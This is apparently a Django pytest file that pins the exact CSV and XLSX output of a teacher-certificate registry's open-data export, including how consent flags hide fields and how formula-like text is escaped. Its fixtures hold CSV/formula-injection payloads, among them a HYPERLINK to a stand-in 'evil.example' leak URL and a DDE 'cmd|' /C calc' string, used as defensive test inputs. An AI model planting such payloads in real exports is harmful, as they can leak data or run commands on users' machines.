"""The open-data files, byte for byte: what every consent allows, formula-like text, dates.

Pinned so that making the exports faster (issue 16) cannot change one byte of what they
write: the CSV whole, the XLSX's worksheet as written (its other parts carry the time of
writing), and the cells as a spreadsheet program reads them.
"""

import datetime
import io
import re
import zipfile
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import load_workbook

from registry.selectors import CONSENT_FLAGS
from tests.factories import (
    CertificateFactory,
    OrganisationFactory,
    PersonFactory,
    PublicationConsentFactory,
)
from workflows.choices import CertificateKind

pytestmark = pytest.mark.django_db

DAY = datetime.datetime(2027, 3, 1, 12, 0, tzinfo=ZoneInfo("Asia/Novokuznetsk"))
ISSUED = datetime.date(2027, 1, 15)
VALID_UNTIL = "15.01.2030"  # three years from the date of issue
HEADER = (
    "ФИО,Статус,Организация,Должность,Направление или проблематика,Номер свидетельства,"
    "Действительно до,Приказ Министерства"
)


@pytest.fixture
def every_consent(db):
    """A listed tutor for each of the 64 combinations of the consent's flags, in that order."""
    school = OrganisationFactory(short_name="МБОУ № 7")
    for bits in range(64):
        person = PersonFactory(surname=f"Флаги{bits:02d}", organisation=school)
        PublicationConsentFactory(
            person=person, **{flag: bool(bits & 1 << i) for i, flag in enumerate(CONSENT_FLAGS)}
        )
        CertificateFactory(
            person=person,
            kind=CertificateKind.TUTOR,
            number=f"42-Т-{bits:05d}",
            issued_on=ISSUED,
            direction="Инклюзия",
            order_number=f"{bits}",
            order_date=datetime.date(2027, 1, 10),
        )


def expected_line(bits: int) -> str:
    shown = [
        "МБОУ № 7",
        "учитель",
        "Инклюзия",
        f"42-Т-{bits:05d}",
        VALID_UNTIL,
        f"№ {bits} от 10.01.2027",
    ]
    cells = [value if bits & 1 << i else "" for i, value in enumerate(shown)]
    return ",".join([f"Флаги{bits:02d} Анна Сергеевна", "Статус «Тьютор»", *cells])


def test_the_csv_shows_exactly_what_each_combination_of_consents_allows(client, every_consent):
    with time_machine.travel(DAY, tick=False):
        content = client.get("/registry/export.csv").content
    lines = [HEADER, *(expected_line(bits) for bits in range(64))]
    assert content == ("\ufeff" + "\r\n".join(lines) + "\r\n").encode()


def test_the_xlsx_holds_the_csvs_cells_typed(client, every_consent):
    with time_machine.travel(DAY, tick=False):
        sheet = load_workbook(io.BytesIO(client.get("/registry/export.xlsx").content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 64
    for bits, row in enumerate(rows):
        expected = expected_line(bits).split(",")
        expected[6] = datetime.datetime(2030, 1, 15) if bits & 1 << 4 else ""
        assert [cell.value if cell.value is not None else "" for cell in row] == expected
        # An empty text is an empty string cell, read back as "inlineStr" with no value.
        types = ["s" if value else "inlineStr" for value in expected]
        types[6] = "d" if bits & 1 << 4 else "inlineStr"
        assert [cell.data_type for cell in row] == types
        assert not any(cell.quotePrefix for cell in row)
        assert row[6].number_format == ("DD.MM.YYYY" if bits & 1 << 4 else "General")


@pytest.fixture
def awkward(db):
    """Listed people whose text is what a spreadsheet could misread, and every shape of order."""
    hostile = OrganisationFactory(short_name='+7 (3842) "Школа", корпус 2')
    plain = OrganisationFactory(short_name="МБОУ № 7")
    people = [
        # A formula for a surname; a DDE command for a position; a separator then a formula.
        PersonFactory(
            surname='=HYPERLINK("http://evil.example/?leak=1","Открыть")',
            position="@SUM(1+1)*cmd|' /C calc'!A0",
            organisation=hostile,
        ),
        # Leading spaces before a formula, no patronymic; an error code; a control character.
        PersonFactory(surname="  =1+1", patronymic="", position="#N/A", organisation=plain),
        # A tab and a line break; spaces around; full-width signs.
        PersonFactory(surname="\tТабуляция", position=" учитель ", organisation=plain),
        PersonFactory(surname="Ёжикова", position="－1", organisation=plain),
    ]
    for person in people:
        PublicationConsentFactory(person=person)
    CertificateFactory(
        person=people[0],
        kind=CertificateKind.MENTOR,
        number="-42",
        issued_on=ISSUED,
        direction="Цифровая школа;=cmd",
        order_number="=1+1",
        order_date=datetime.date(2027, 1, 10),
    )
    CertificateFactory(
        person=people[1],
        number="42-М-00001",
        issued_on=ISSUED,
        direction="Строка\nи вторая\x07",
        order_number="17",
    )
    CertificateFactory(person=people[2], number="42-М-00002", issued_on=ISSUED)
    # Two certificates of one person: in the order of their kinds.
    for kind, number in ((CertificateKind.TUTOR, "42-Т-00003"), (CertificateKind.MENTOR, "4")):
        CertificateFactory(
            person=people[3], kind=kind, number=number, issued_on=ISSUED, direction="＝1"
        )


AWKWARD_CSV = (
    "ФИО,Статус,Организация,Должность,Направление или проблематика,Номер свидетельства,"
    "Действительно до,Приказ Министерства\r\n"
    '\'  =1+1 Анна,Статус «Ментор»,МБОУ № 7,#N/A,"Строка\nи вторая\x07",42-М-00001,15.01.2030,'
    "№ 17\r\n"
    '"\'=HYPERLINK(""http://evil.example/?leak=1"",""Открыть"") Анна Сергеевна",'
    'Статус «Ментор»,"\'+7 (3842) ""Школа"", корпус 2",\'@SUM(1+1)*cmd|\' /C calc\'!A0,'
    "Цифровая школа;'=cmd,'-42,15.01.2030,№ =1+1 от 10.01.2027\r\n"
    "Ёжикова Анна Сергеевна,Статус «Ментор»,МБОУ № 7,'－1,'＝1,4,15.01.2030,\r\n"
    "Ёжикова Анна Сергеевна,Статус «Тьютор»,МБОУ № 7,'－1,'＝1,42-Т-00003,15.01.2030,\r\n"
    "'\tТабуляция Анна Сергеевна,Статус «Ментор»,МБОУ № 7, учитель ,,42-М-00002,15.01.2030,\r\n"
)


def test_the_csv_of_awkward_text_is_pinned(client, awkward):
    with time_machine.travel(DAY, tick=False):
        content = client.get("/registry/export.csv").content
    assert content == AWKWARD_CSV.encode("utf-8-sig")


# Style 1 is "quote prefix" (the text was formula-like), style 2 the date format (a number).
AWKWARD_ROWS = (
    '<row r="1">'
    + "".join(
        f'<c r="{column}1" t="inlineStr"><is><t>{heading}</t></is></c>'
        for column, heading in zip("ABCDEFGH", HEADER.split(","), strict=True)
    )
    + "</row>"
    '<row r="2"><c r="A2" s="1" t="inlineStr"><is><t xml:space="preserve">  =1+1 Анна</t></is></c>'
    '<c r="B2" t="inlineStr"><is><t>Статус «Ментор»</t></is></c>'
    '<c r="C2" t="inlineStr"><is><t>МБОУ № 7</t></is></c>'
    '<c r="D2" t="inlineStr"><is><t>#N/A</t></is></c>'
    '<c r="E2" t="inlineStr"><is><t>Строка\nи вторая</t></is></c>'
    '<c r="F2" t="inlineStr"><is><t>42-М-00001</t></is></c>'
    '<c r="G2" s="2" t="n"><v>47498</v></c>'
    '<c r="H2" t="inlineStr"><is><t>№ 17</t></is></c></row>'
    '<row r="3"><c r="A3" s="1" t="inlineStr"><is><t>=HYPERLINK("http://evil.example/?leak=1",'
    '"Открыть") Анна Сергеевна</t></is></c>'
    '<c r="B3" t="inlineStr"><is><t>Статус «Ментор»</t></is></c>'
    '<c r="C3" s="1" t="inlineStr"><is><t>+7 (3842) "Школа", корпус 2</t></is></c>'
    '<c r="D3" s="1" t="inlineStr"><is><t>@SUM(1+1)*cmd|\' /C calc\'!A0</t></is></c>'
    '<c r="E3" t="inlineStr"><is><t>Цифровая школа;=cmd</t></is></c>'
    '<c r="F3" s="1" t="inlineStr"><is><t>-42</t></is></c>'
    '<c r="G3" s="2" t="n"><v>47498</v></c>'
    '<c r="H3" t="inlineStr"><is><t>№ =1+1 от 10.01.2027</t></is></c></row>'
    + "".join(
        f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>Ёжикова Анна Сергеевна</t></is></c>'
        f'<c r="B{row}" t="inlineStr"><is><t>Статус «{kind}»</t></is></c>'
        f'<c r="C{row}" t="inlineStr"><is><t>МБОУ № 7</t></is></c>'
        f'<c r="D{row}" s="1" t="inlineStr"><is><t>－1</t></is></c>'
        f'<c r="E{row}" s="1" t="inlineStr"><is><t>＝1</t></is></c>'
        f'<c r="F{row}" t="inlineStr"><is><t>{number}</t></is></c>'
        f'<c r="G{row}" s="2" t="n"><v>47498</v></c>'
        f'<c r="H{row}" t="inlineStr"></c></row>'
        for row, kind, number in ((4, "Ментор", "4"), (5, "Тьютор", "42-Т-00003"))
    )
    + '<row r="6"><c r="A6" s="1" t="inlineStr"><is><t xml:space="preserve">\tТабуляция Анна '
    "Сергеевна</t></is></c>"
    '<c r="B6" t="inlineStr"><is><t>Статус «Ментор»</t></is></c>'
    '<c r="C6" t="inlineStr"><is><t>МБОУ № 7</t></is></c>'
    '<c r="D6" t="inlineStr"><is><t xml:space="preserve"> учитель </t></is></c>'
    '<c r="E6" t="inlineStr"></c>'
    '<c r="F6" t="inlineStr"><is><t>42-М-00002</t></is></c>'
    '<c r="G6" s="2" t="n"><v>47498</v></c>'
    '<c r="H6" t="inlineStr"></c></row>'
)
AWKWARD_STYLES = (
    '<numFmts count="2"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/>'
    '<numFmt numFmtId="165" formatCode="DD.MM.YYYY"/></numFmts>'
)
AWKWARD_XFS = (
    '<cellXfs count="3">'
    '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" pivotButton="0" quotePrefix="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" pivotButton="0" quotePrefix="1" xfId="0"/>'
    '<xf numFmtId="165" fontId="0" fillId="0" borderId="0" pivotButton="0" quotePrefix="0" '
    'xfId="0"/></cellXfs>'
)


def readable(xml: bytes) -> str:
    """The part as text, its character references (every non-ASCII letter) as the letters:
    a reference in the data itself would be written ``&amp;#…;``, so nothing is confused."""
    return re.sub(r"&#(\d+);", lambda match: chr(int(match[1])), xml.decode())


def test_the_xlsx_of_awkward_text_is_pinned(client, awkward):
    with time_machine.travel(DAY, tick=False):
        content = client.get("/registry/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = readable(archive.read("xl/worksheets/sheet1.xml"))
        styles = archive.read("xl/styles.xml").decode()
    assert sheet.split("<sheetData>")[1].split("</sheetData>")[0] == AWKWARD_ROWS
    assert AWKWARD_STYLES in styles and AWKWARD_XFS in styles
